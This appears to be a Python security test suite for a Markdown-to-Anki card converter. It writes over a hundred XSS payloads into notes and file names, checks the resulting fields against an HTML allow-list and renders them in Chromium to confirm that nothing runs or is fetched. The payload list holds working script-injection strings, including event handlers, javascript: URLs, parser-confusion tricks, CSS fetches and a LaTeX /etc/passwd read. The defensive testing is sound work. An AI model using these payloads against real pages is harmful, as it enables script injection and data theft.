#!/usr/bin/env python3
"""Notes that mean harm: every payload in every place of a note, and what reaches cards.

    harm.py PATH-TO-CARDMILL SCRATCH-FOLDER

First the fields are read with Python's own parser and an allow-list of this file; then
Chromium is given them as Anki gives them, scripts run and all, and every element is
clicked, focused and pointed at.  Nothing may run, be fetched or leave the page.
"""

import html.parser
import json
import os
import re
import sys

sys.dont_write_bytecode = True          # nothing is left beside the sources
HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [HERE, os.path.join(HERE, '..', 'package'), os.path.join(HERE, '..', 'preview')]
from chromium import Browser, find_chromium
from deck import Case
from kit import Mill, Report, Skipped, Tests, brief, expect, expect_equal, expect_none
from of_harm import Spy

HARM = 'parent.harmed=harmed=1'

# @ stands for somebody on the network.
PAYLOADS = [
    '<script>%s</script>', '<SCRIPT SRC="@/x.js"></SCRIPT>', '<script >%s</script >', '<script/x>%s</script>',
    '<scr<script>ipt>%s</script>', '<<script>%s//<</script>', '<script>%s', '<script\n>%s</script\n>',
    '<img src=x onerror=%s>', '<img src="x" ONERROR="%s">', '<img/src=x/onerror=%s>', "<img src='x'onerror='%s'>",
    '<img src=x onerror\n=\n"%s">', '<img """><script>%s</script>">', '<img src=x:x onerror="%s"//',
    '<img src="x` `<script>%s</script>"` `>', '<image src=x onerror=%s>', '<img srcset="@/s.png 1x" src=x>',
    '<img src="javascript:%s">', '<img lowsrc="@/l.png" dynsrc="@/d.png" src=x>', '<input type=image src="@/i.png">',
    '<img src="@/one.png" onerror=%s alt=a>', '<img src="@/two.png" srcset="@/three.png" onload=%s>',
    '<video src="@/four.mp4" poster="@/five.png" onerror=%s></video>', '![a](@/six.png "t\' onerror=\'%s")',
    '<svg onload=%s>', '<svg><script>%s</script></svg>', '<svg><a xlink:href="javascript:%s"><text>t</text></a></svg>',
    '<svg><style><img src=x onerror=%s></style></svg>', '<svg><image href="@/v.png"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=%s></style></mglyph></table></mtext></math>',
    '<math href="javascript:%s">m</math>', '<iframe src="javascript:%s"></iframe>', '<iframe srcdoc="<script>%s</script>">',
    '<iframe src="@/f"></iframe>', '<frameset onload=%s>', '<object data="javascript:%s"></object>',
    '<object data="@/o"></object>', '<embed src="@/e">', '<applet code="@/a">', '<body onload=%s>',
    '<body background="@/b.png">', '<table background="@/t.png"><tr><td background="@/c.png">c</td></tr></table>',
    '<a href="javascript:%s">a</a>', '<a href="JaVaScRiPt:%s">a</a>', '<a href=" &#14; javascript:%s">a</a>',
    '<a href="java\tscript:%s">a</a>', '<a href="java&#10;script:%s">a</a>', '<a href="&#106;avascript:%s">a</a>',
    '<a href="javascript&colon;%s">a</a>', '<a href="vbscript:%s">a</a>', '<a href="data:text/html,<script>%s</script>">a</a>',
    '<a href="x" onclick=%s>a</a>', '<a href=x onmouseover=%s>a</a>', '<b onfocus=%s tabindex=0 autofocus>b</b>',
    '<area href="javascript:%s">', '<form action="javascript:%s"><button>b</button></form>',
    '<button formaction="javascript:%s">b</button>', '<input onfocus=%s autofocus>', '<select onfocus=%s autofocus></select>',
    '<textarea onfocus=%s autofocus></textarea>', '<details open ontoggle=%s><summary>s</summary>d</details>',
    '<video src=x onerror=%s></video>', '<video><source onerror="%s"></video>', '<audio src=x onerror=%s></audio>',
    '<video poster="@/p.png" src=x></video>', '<marquee onstart=%s>m</marquee>', '<style>*{background:url(@/s)}</style>',
    '<style>@import "@/i.css";</style>', '<link rel=stylesheet href="@/l.css">', '<link rel=prefetch href="@/p">',
    '<base href="@/">', '<meta http-equiv=refresh content="0;url=@/m">', '<div style="background:url(@/d)">d</div>',
    '<div style="width:expression(%s)">d</div>', '<div style="background-image:\\75rl(@/e)">d</div>',
    '<span style="color:red;background:u/**/rl(@/u)">s</span>', '<span style="position:fixed;inset:0;color:red">s</span>',
    '<p style="color:red" style="background:url(@/2)">p</p>', '<template><script>%s</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=%s>"></noscript>', '<xmp><img src=x onerror=%s></xmp>',
    '<title><img src=x onerror=%s></title>', '<plaintext><img src=x onerror=%s>', '<!--><img src=x onerror=%s>-->',
    '<!-- --!><img src=x onerror=%s>', '<![CDATA[<img src=x onerror=%s>]]>', '<?xml <img src=x onerror=%s>?>',
    '<!DOCTYPE x [<img src=x onerror=%s>]>', '</p><img src=x onerror=%s>', '<x-y onclick=%s>x</x-y>',
    '<b id="qa" name="qa">b</b>', '<form id=document><input name=body></form>', '<a id=harmless name=location>a</a>',
    '[a](javascript:%s)', '[a](<javascript:%s>)', '[a](JAVASCRIPT:%s)', '[a](java&#115;cript:%s)', '[a](data:text/html;base64,PHNjcmlwdD4=)',
    '![a](javascript:%s)', '![a"onerror="%s](x.png)', '![a](x.png "t\' onerror=\'%s")', '![a](x.png\'onerror=\'%s)',
    '<javascript:%s>', '<data:text/html,x>', '[[a" onclick="%s|b]]', '![[x.png" onerror="%s|300]]', '`<img src=x onerror=%s>`',
    '$<img src=x onerror=%s>$', '$$</script><script>%s</script>$$', '\\(<img src=x onerror=%s>\\)', '==<img src=x onerror=%s>==',
    '{{c1::<img src=x onerror=%s>}}', '{{c1::a::<img src=x onerror=%s>}}', '&lt;script&gt;%s&lt;/script&gt;',
    '&#60;img src=x onerror=%s&#62;', '\\<img src=x onerror=%s>', '[sound:x.mp3" onerror="%s]', '[latex]\\input{/etc/passwd}[/latex]',
    'http://a.example/"onmouseover="%s', 'www.a.example/<img/src=x/onerror=%s>', '#tag"onclick="%s',
]

PLACES = [
    ('item', '1. term: a {0} b\n'), ('front', '1. a {0}: meaning\n'), ('alone', '{0}\n\nThe end of it is known.\n'),
    ('heading', '### A {0} of this\nmeaning\n'), ('cell', '| a | b |\n|---|---|\n| {0} | {0} |\n'),
    ('quote', '> [!tip] a {0}\n> {0}\n'), ('note', '- term: a word[^1]\n\n[^1]: {0}\n'),
    ('fold', '<details><summary>{0}</summary>\n\n{0}\n\n</details>\n'), ('fence', '### Code\n```{0}\n{0}\n```\n'),
    ('inner', '- <span title="{0}">term</span>: <b class={0}>m</b>\n'), ('author', 'front {0}::back {0}\n'),
]

TAGS = set('a abbr audio b bdi bdo big blockquote br cite code del details dfn div em hr i img ins kbd li mark ol p pre q rb rp '
           'rt ruby s samp small span strike strong sub summary sup table tbody td th thead tr u ul var video'.split())
ATTRIBUTES = {'*': {'title', 'dir', 'lang', 'style', 'class'}, 'a': {'href'}, 'td': {'align', 'colspan', 'rowspan'},
              'th': {'align', 'colspan', 'rowspan'}, 'img': {'src', 'alt', 'width', 'height'}, 'ol': {'start', 'type'},
              'audio': {'src', 'controls'}, 'video': {'src', 'controls', 'width', 'height'}, 'li': {'value'},
              'details': {'open'}}
CLASSES = re.compile(r'table|callout( \w+)?|callout-title|footnotes?|footnote-ref|long|task|language-\S+')
STYLE = re.compile(r'((background-)?color: ?(#[0-9a-f]{3,8}|[a-z]+|rgba?\([\d., %]+\))|text-align: ?[a-z]+|'
                   r'text-decoration: ?[a-z -]+|font-(style|weight): ?[a-z0-9]+);?( |$)|;')

tests = Tests()


class Reader(html.parser.HTMLParser):
    """Keeps what is not allowed."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.wrong = []

    def handle_starttag(self, tag, attributes):
        if tag not in TAGS:
            self.wrong.append('<%s>' % tag)
        names = [name for name, _ in attributes]
        self.wrong += ['%s twice' % name for name in set(names) if names.count(name) > 1]
        for name, value in attributes:
            value = value or ''
            if name not in ATTRIBUTES['*'] | ATTRIBUTES.get(tag, set()):
                self.wrong.append('%s of <%s>' % (name, tag))
            elif name in ('href', 'src') and re.match(r'(?i)[\x00-\x20]*[a-z][\x00-\x20a-z0-9+.-]*:', value) and \
                    not re.match(r'(https?|mailto):', value):
                self.wrong.append('%s="%s"' % (name, value))
            elif name == 'class' and not CLASSES.fullmatch(value):
                self.wrong.append('class="%s"' % value)
            elif name == 'style' and STYLE.sub('', value + ' ').strip():
                self.wrong.append('style="%s"' % value)

    def handle_comment(self, data):
        self.wrong.append('<!--%s-->' % data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def payload_of(number, address):
    payload = PAYLOADS[number].replace('@', address)
    return payload.replace('%s', HARM)


def written(folder, address):
    """A folder of notes, a file a payload."""
    os.makedirs(folder, exist_ok=True)
    for number in range(len(PAYLOADS)):
        payload = payload_of(number, address)
        parts = ['# Notes of harm\n']
        for name, place in PLACES:
            one = payload if name in ('alone', 'fence') else payload.replace('\n', ' ')
            parts.append('## Place %s\n\n%s\nThe place was %s: well.\n' % (name, place.replace('{0}', one), name))
        # Some payloads swallow what follows: so each place has a file of its own, too.
        with open(os.path.join(folder, '%03d.md' % number), 'w', encoding='utf-8') as file:
            file.write('\n'.join(parts))
        for name, place in PLACES:
            with open(os.path.join(folder, '%03d-%s.md' % (number, name)), 'w', encoding='utf-8') as file:
                file.write(place.replace('{0}', payload))
    for number in range(len(PAYLOADS)):         # a name of a file reaches the cards, too
        name = re.sub(r'[/\x00\n\t]', '_', payload_of(number, address))[:80]
        with open(os.path.join(folder, '%03d %s.md' % (number, name)), 'w', encoding='utf-8') as file:
            file.write('term: meaning\n')
    return folder


def deck_of(mill, address):
    return Case(mill, 'notes', written(mill.folder('notes-source'), address))


def fields_of(case):
    return [(note['source']['file'], note['source']['line'], field)
            for note in case.deck['notes'] for field in note['fields']]


@tests
def nothing_but_what_is_allowed(mill):
    case = deck_of(mill, 'http://harm.example')
    expect(len(case.deck['notes']) > 5 * len(PAYLOADS), 'only %d notes were made', len(case.deck['notes']))
    offenders = []
    for file, line, field in fields_of(case):
        reader = Reader()
        reader.feed(field)
        reader.close()
        offenders += ['%s:%s: %s' % (file, line, wrong) for wrong in reader.wrong]
    expect_none(offenders, 'what is not allowed')


@tests
def the_check_sees_harm(mill):
    """Each payload of HTML as it is has something that is not allowed."""
    seen = 0
    for number, payload in enumerate(PAYLOADS):
        reader = Reader()
        reader.feed(payload_of(number, 'http://harm.example'))
        reader.close()
        seen += bool(reader.wrong)
    expect(seen > len(PAYLOADS) * 2 / 3, 'only %d of %d were seen', seen, len(PAYLOADS))


PAGE = '''<!doctype html><meta charset="utf-8"><title>harm</title><body class="card"><div id="qa"></div><script>
harmed = 0;
alert = confirm = prompt = () => { harmed = 1; };
function show(fields) {
    const qa = document.getElementById("qa");
    for (const field of fields) {
        const box = qa.appendChild(document.createElement("div"));
        box.innerHTML = field;
        for (const old of box.querySelectorAll("script")) {   // as Anki does: they run
            const script = document.createElement("script");
            for (const part of old.attributes) script.setAttribute(part.name, part.value);
            script.textContent = old.textContent;
            old.replaceWith(script);
        }
    }
}
function touch() {
    let count = 0;
    for (const part of document.querySelectorAll("#qa *")) {
        const address = part.getAttribute("href") || "";
        for (const kind of ["mouseover", "mouseenter", "focus", "toggle", "load", "error"])
            part.dispatchEvent(new Event(kind));
        // Links that lead to other pages lead there: those are what they seem.
        if (!/^(https?|mailto):/.test(address)) { part.addEventListener("click", event => {
            if (!/^javascript:/i.test(part.protocol || "")) event.preventDefault(); });
            part.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })); }
        count++;
    }
    return count;
}
</script>'''


def shown(mill, fields, name):
    """What becomes of the page when it shows these fields."""
    folder = mill.folder('page-' + name)
    path = os.path.join(folder, 'page.html')
    with open(path, 'w', encoding='utf-8') as file:
        file.write(PAGE)
    with Browser(folder) as browser:
        page = browser.page()
        page.open(path)
        for at in range(0, len(fields), 500):
            page.evaluate('show(%s)' % json.dumps(fields[at:at + 500]))
        count = page.evaluate('touch()')
        page.evaluate('new Promise(done => setTimeout(done, 500))')
        return (page.evaluate('[harmed, document.title, location.pathname.endsWith("page.html")]'), count,
                [request for request in page.requests if not request.startswith(('file:', 'data:'))])


@tests
def nothing_runs_or_is_fetched(mill):
    if find_chromium() is None:
        raise Skipped('no Chromium is installed')
    with Spy() as spy:
        # Remote pictures are shown by Anki: that they are is told when the deck is made.
        fields = [re.sub(r'<(img|audio|video)\b[^>]*>', '', field) for _, _, field in fields_of(deck_of(mill, spy.address))]
        state, count, requests = shown(mill, fields, 'fields')
        expect(count > len(fields), 'only %d elements were touched', count)
        expect_equal(state, [0, 'harm', True], 'harm done, title, place')
        expect_none(requests, 'what was asked for')
        expect_equal(spy.visits, 0, 'visits')


@tests
def pictures_ask_for_themselves_alone(mill):
    """Of pictures, sound and films only the address the notes name is asked for."""
    if find_chromium() is None:
        raise Skipped('no Chromium is installed')
    tags = [tag for _, _, field in fields_of(deck_of(mill, 'http://harm.example'))
            for tag in re.findall(r'<(?:img|audio|video)\b[^>]*>', field)]
    expect(len(tags) > 20, 'only %d pictures reached cards', len(tags))
    state, _, requests = shown(mill, tags, 'tags')
    expect_equal(state, [0, 'harm', True], 'harm done, title, place')
    asked = {tag for tag in tags if 'http' in tag}
    expect_none((request for request in requests if not any(request.split('?')[0] in tag for tag in asked)),
                'what was asked for')


@tests
def the_browser_sees_harm(mill):
    """What the notes say, given to the same page as it is, does harm."""
    if find_chromium() is None:
        raise Skipped('no Chromium is installed')
    with Spy() as spy:
        payloads = [payload_of(number, spy.address) for number in range(len(PAYLOADS))
                    if not re.search('refresh|<base', PAYLOADS[number])]
        state, _, requests = shown(mill, payloads, 'payloads')
        expect_equal(state[0], 1, 'harm done')
        expect(len(requests) > 5, 'only %d things were asked for', len(requests))


def main():
    mill = Mill(sys.argv[1], sys.argv[2])
    report = Report('harm')
    report.run(tests, '', mill)
    return report.failed


if __name__ == '__main__':
    sys.exit(main())
